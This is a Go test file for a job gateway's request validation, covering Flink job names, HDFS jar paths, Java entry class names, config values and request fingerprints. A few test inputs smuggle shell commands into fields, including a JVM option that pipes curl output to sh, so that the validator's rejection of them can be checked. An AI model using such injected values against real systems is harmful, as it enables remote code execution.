package job

import (
	"errors"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/yarngate/yarngate/api"
	"github.com/yarngate/yarngate/flink"
)

func TestNormalize(t *testing.T) {
	jar := `"jarId":"` + goodID + `"`
	tests := []struct {
		name     string
		body     string // a JSON JobRequest
		want     []api.FieldProblem
		wantName string            // checked when there are no problems
		wantCfg  map[string]string // checked when there are no problems
	}{
		{name: "defaults", body: `{` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "name trimmed", body: `{"name":"  my job \t",` + jar + `}`, wantName: "my job", wantCfg: map[string]string{}},
		{name: "blank name gets the default", body: `{"name":"   ",` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "unicode name", body: `{"name":"Wörter zählen",` + jar + `}`, wantName: "Wörter zählen", wantCfg: map[string]string{}},
		{name: "name at the limit", body: `{"name":"` + strings.Repeat("n", maxJobNameLen) + `",` + jar + `}`,
			wantName: strings.Repeat("n", maxJobNameLen), wantCfg: map[string]string{}},
		{name: "name too long", body: `{"name":"` + strings.Repeat("n", maxJobNameLen+1) + `",` + jar + `}`,
			want: []api.FieldProblem{{Field: "name", Reason: "must be at most 256 characters without control characters"}}},
		{name: "name with a newline", body: `{"name":"a\nb",` + jar + `}`,
			want: []api.FieldProblem{{Field: "name", Reason: "must be at most 256 characters without control characters"}}},
		{name: "name with an escape", body: `{"name":"a\u001b[31mb",` + jar + `}`,
			want: []api.FieldProblem{{Field: "name", Reason: "must be at most 256 characters without control characters"}}},
		{name: "explicit application target", body: `{"target":"application",` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "session target", body: `{"target":"session",` + jar + `}`,
			want: []api.FieldProblem{{Field: "sessionId", Reason: "required with target session: the id of a session (POST /v1/sessions)"}}},
		{name: "unknown target", body: `{"target":"yarn-per-job",` + jar + `}`,
			want: []api.FieldProblem{{Field: "target", Reason: `"yarn-per-job" is not one of application, session, cluster`}}},
		{name: "session id with an application", body: `{"sessionId":"s1",` + jar + `}`,
			want: []api.FieldProblem{{Field: "sessionId", Reason: "only allowed with target session"}}},
		{name: "no jar", body: `{}`, want: []api.FieldProblem{{Field: "jarId", Reason: "either jarId or jarPath is required"}}},
		{name: "both jar fields", body: `{"jarPath":"hdfs:///a/b.jar",` + jar + `}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "give jarId or jarPath, not both"}}},
		{name: "jarPath without authority", body: `{"jarPath":"hdfs:///jobs/wordcount.jar"}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "jarPath with authority", body: `{"jarPath":"hdfs://nn.example.com:8020/jobs/wc.jar"}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "jarPath without scheme", body: `{"jarPath":"/jobs/wc.jar"}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "must be an hdfs:// URI with an absolute path"}}},
		{name: "jarPath on the local file system", body: `{"jarPath":"file:///jobs/wc.jar"}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "must be an hdfs:// URI with an absolute path"}}},
		{name: "jarPath relative", body: `{"jarPath":"hdfs:jobs/wc.jar"}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "must be an hdfs:// URI with an absolute path"}}},
		{name: "jarPath without path", body: `{"jarPath":"hdfs://nn"}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "must be an hdfs:// URI with an absolute path"}}},
		{name: "jarPath unparsable", body: `{"jarPath":"hdfs://nn:port/x.jar"}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "must be an hdfs:// URI with an absolute path"}}},
		{name: "jarPath not a jar", body: `{"jarPath":"hdfs:///jobs/wc.zip"}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "must name a .jar file"}}},
		{name: "jarPath with shell syntax", body: `{"jarPath":"hdfs:///jobs/{{(id)}}.jar"}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "must consist of letters, digits and -._~/:@%+= only"}}},
		{name: "jarPath with a quote", body: `{"jarPath":"hdfs:///jobs/a\"b.jar"}`,
			want: []api.FieldProblem{{Field: "jarPath", Reason: "must consist of letters, digits and -._~/:@%+= only"}}},
		{name: "flinkConfig JVM options", body: `{"flinkConfig":{"env.java.opts.jobmanager":"-Dx=1; curl http://x|sh #"},` + jar + `}`,
			want: []api.FieldProblem{{Field: "flinkConfig.env.java.opts.jobmanager", Reason: reasonOf("env.java.opts.jobmanager", "-Dx=1")}}},
		{name: "flinkConfig environment and tags", body: `{"flinkConfig":{"containerized.master.env.TZ":"UTC","yarn.tags":"team-a"},` + jar + `}`,
			wantName: "yarngate-job", wantCfg: map[string]string{"containerized.master.env.TZ": "UTC", "yarn.tags": "team-a"}},
		{name: "entry class", body: `{"entryClass":"com.example.WordCount",` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "nested entry class", body: `{"entryClass":"com.example.Outer$Job_2",` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "unicode entry class", body: `{"entryClass":"com.exämple.Jöb",` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "entry class with slashes", body: `{"entryClass":"com/example/Job",` + jar + `}`,
			want: []api.FieldProblem{{Field: "entryClass", Reason: `"com/example/Job" is not a Java class name`}}},
		{name: "entry class with an empty segment", body: `{"entryClass":"com..Job",` + jar + `}`,
			want: []api.FieldProblem{{Field: "entryClass", Reason: `"com..Job" is not a Java class name`}}},
		{name: "entry class ending in a dot", body: `{"entryClass":"com.Job.",` + jar + `}`,
			want: []api.FieldProblem{{Field: "entryClass", Reason: `"com.Job." is not a Java class name`}}},
		{name: "entry class segment starting with a digit", body: `{"entryClass":"com.1Job",` + jar + `}`,
			want: []api.FieldProblem{{Field: "entryClass", Reason: `"com.1Job" is not a Java class name`}}},
		{name: "entry class with a shell metacharacter", body: `{"entryClass":"Job;rm",` + jar + `}`,
			want: []api.FieldProblem{{Field: "entryClass", Reason: `"Job;rm" is not a Java class name`}}},
		{name: "args with NUL", body: `{"args":["ok","a\u0000b"],` + jar + `}`,
			want: []api.FieldProblem{{Field: "args[1]", Reason: "must not contain NUL"}}},
		{name: "args with anything else", body: `{"args":["", "a b", "'\"", ";#$", "ünï", "-Dx=1"],` + jar + `}`,
			wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "parallelism 1", body: `{"parallelism":1,` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "parallelism 0", body: `{"parallelism":0,` + jar + `}`, want: []api.FieldProblem{{Field: "parallelism", Reason: "must be at least 1"}}},
		{name: "parallelism negative", body: `{"parallelism":-3,` + jar + `}`, want: []api.FieldProblem{{Field: "parallelism", Reason: "must be at least 1"}}},
		{name: "slots 0", body: `{"taskManager":{"slots":0},` + jar + `}`, want: []api.FieldProblem{{Field: "taskManager.slots", Reason: "must be at least 1"}}},
		{name: "slots negative", body: `{"taskManager":{"memory":"2g","slots":-1},` + jar + `}`, want: []api.FieldProblem{{Field: "taskManager.slots", Reason: "must be at least 1"}}},
		{name: "savepoint", body: `{"savepoint":{"path":"hdfs:///sp/savepoint-1"},` + jar + `}`, wantName: "yarngate-job", wantCfg: map[string]string{}},
		{name: "savepoint without path", body: `{"savepoint":{"allowNonRestoredState":true},` + jar + `}`,
			want: []api.FieldProblem{{Field: "savepoint.path", Reason: "is required with savepoint"}}},
		{name: "savepoint with a blank path", body: `{"savepoint":{"path":"  "},` + jar + `}`,
			want: []api.FieldProblem{{Field: "savepoint.path", Reason: "is required with savepoint"}}},
		{name: "flinkConfig scalars", body: `{"flinkConfig":{"s":"10 s","i":2,"f":0.75,"big":1e21,"neg":-1,"t":true,"false":false},` + jar + `}`,
			wantName: "yarngate-job",
			wantCfg:  map[string]string{"s": "10 s", "i": "2", "f": "0.75", "big": "1000000000000000000000", "neg": "-1", "t": "true", "false": "false"}},
		{name: "flinkConfig object", body: `{"flinkConfig":{"state":{"backend":"rocksdb"}},` + jar + `}`,
			want: []api.FieldProblem{{Field: "flinkConfig.state", Reason: "must be a string, number or boolean"}}},
		{name: "flinkConfig array", body: `{"flinkConfig":{"pipeline.name":["a","b"]},` + jar + `}`,
			want: []api.FieldProblem{{Field: "flinkConfig.pipeline.name", Reason: "must be a string, number or boolean"}}},
		{name: "flinkConfig null", body: `{"flinkConfig":{"k":null},` + jar + `}`,
			want: []api.FieldProblem{{Field: "flinkConfig.k", Reason: "must be a string, number or boolean"}}},
		{name: "every problem at once", body: `{"name":"a\tb","target":"x","parallelism":0,"taskManager":{"slots":0},"entryClass":"1x","savepoint":{}}`,
			want: []api.FieldProblem{
				{Field: "name", Reason: "must be at most 256 characters without control characters"},
				{Field: "target", Reason: `"x" is not one of application, session, cluster`},
				{Field: "jarId", Reason: "either jarId or jarPath is required"},
				{Field: "entryClass", Reason: `"1x" is not a Java class name`},
				{Field: "parallelism", Reason: "must be at least 1"},
				{Field: "taskManager.slots", Reason: "must be at least 1"},
				{Field: "savepoint.path", Reason: "is required with savepoint"},
			}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			req, err := decodeJobRequest([]byte(tc.body))
			if err != nil {
				t.Fatalf("decode %s: %v", tc.body, err)
			}
			cfg, err := normalizeJobRequest(&req)
			if tc.want != nil {
				var se *api.SpecError
				if !errors.As(err, &se) {
					t.Fatalf("err = %v, want a *api.SpecError", err)
				}
				if !slices.Equal(se.Problems, tc.want) {
					t.Errorf("problems\n got %+v\nwant %+v", se.Problems, tc.want)
				}
				return
			}
			if err != nil {
				t.Fatalf("normalize: %v", err)
			}
			if req.Name != tc.wantName || req.Target != targetApplication {
				t.Errorf("name %q target %q, want %q application", req.Name, req.Target, tc.wantName)
			}
			if !maps.Equal(cfg, tc.wantCfg) {
				t.Errorf("flink config %v, want %v", cfg, tc.wantCfg)
			}
		})
	}
}

// reasonOf is the reason flink.CheckFlinkConfig gives for key set to value.
func reasonOf(key, value string) string {
	p := flink.CheckFlinkConfig(map[string]string{key: value})
	if len(p) != 1 {
		return "(accepted)"
	}
	return p[0].Reason
}

func TestValidClassNameLength(t *testing.T) {
	long := strings.Repeat("a.", 511) + "Jo" // 1024 characters
	if !validClassName(long) {
		t.Errorf("a class name of 1024 characters is refused")
	}
	if validClassName(long + "b") {
		t.Errorf("a class name of 1025 characters is accepted")
	}
}

func TestFingerprint(t *testing.T) {
	decode := func(body string) *api.JobRequest {
		t.Helper()
		req, err := decodeJobRequest([]byte(body))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := normalizeJobRequest(&req); err != nil {
			t.Fatal(err)
		}
		return &req
	}
	base := `{"name":"wc","jarId":"` + goodID + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":"1","y":"2"}}`
	fp := jobRequestFingerprint(decode(base))
	if !regexp.MustCompile(`^[0-9a-f]{16}$`).MatchString(fp) {
		t.Fatalf("fingerprint %q is not 16 hex digits", fp)
	}
	// The fingerprint is recorded on YARN applications and compared by later gateway versions: it must
	// not change with the Go version or a refactoring. The value is SHA-256 of
	// {"name":"wc","jarId":"abab…","args":["a","b"],"target":"application","parallelism":2,"flinkConfig":{"x":"1","y":"2"}},
	// first 8 bytes, computed independently.
	if want := "1c1a0774a4d671d1"; fp != want {
		t.Errorf("fingerprint = %s, want %s (changing it breaks idempotent retries across upgrades)", fp, want)
	}
	same := []struct{ name, body string }{
		{"decoded again", base},
		{"keys in another order", `{"flinkConfig":{"y":"2","x":"1"},"parallelism":2,"args":["a","b"],"jarId":"` + goodID + `","name":"wc"}`},
		{"defaults spelled out", `{"name":" wc ","target":"application","jarId":"` + goodID + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":"1","y":"2"}}`},
	}
	for _, tc := range same {
		if got := jobRequestFingerprint(decode(tc.body)); got != fp {
			t.Errorf("%s: fingerprint %s, want %s", tc.name, got, fp)
		}
	}
	different := []struct{ name, body string }{
		{"other name", `{"name":"wc2","jarId":"` + goodID + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":"1","y":"2"}}`},
		{"other jar", `{"name":"wc","jarId":"` + strings.Repeat("cd", 32) + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":"1","y":"2"}}`},
		{"args reordered", `{"name":"wc","jarId":"` + goodID + `","args":["b","a"],"parallelism":2,"flinkConfig":{"x":"1","y":"2"}}`},
		{"one arg more", `{"name":"wc","jarId":"` + goodID + `","args":["a","b",""],"parallelism":2,"flinkConfig":{"x":"1","y":"2"}}`},
		{"other parallelism", `{"name":"wc","jarId":"` + goodID + `","args":["a","b"],"parallelism":3,"flinkConfig":{"x":"1","y":"2"}}`},
		{"other config value", `{"name":"wc","jarId":"` + goodID + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":"1","y":"3"}}`},
		{"config value of another type", `{"name":"wc","jarId":"` + goodID + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":1,"y":"2"}}`},
		{"queue", `{"name":"wc","jarId":"` + goodID + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":"1","y":"2"},"queue":"etl"}`},
		{"flink version", `{"name":"wc","jarId":"` + goodID + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":"1","y":"2"},"flinkVersion":"2.x"}`},
		{"savepoint", `{"name":"wc","jarId":"` + goodID + `","args":["a","b"],"parallelism":2,"flinkConfig":{"x":"1","y":"2"},"savepoint":{"path":"p"}}`},
	}
	for _, tc := range different {
		if got := jobRequestFingerprint(decode(tc.body)); got == fp {
			t.Errorf("%s: same fingerprint %s as the base request", tc.name, got)
		}
	}
}
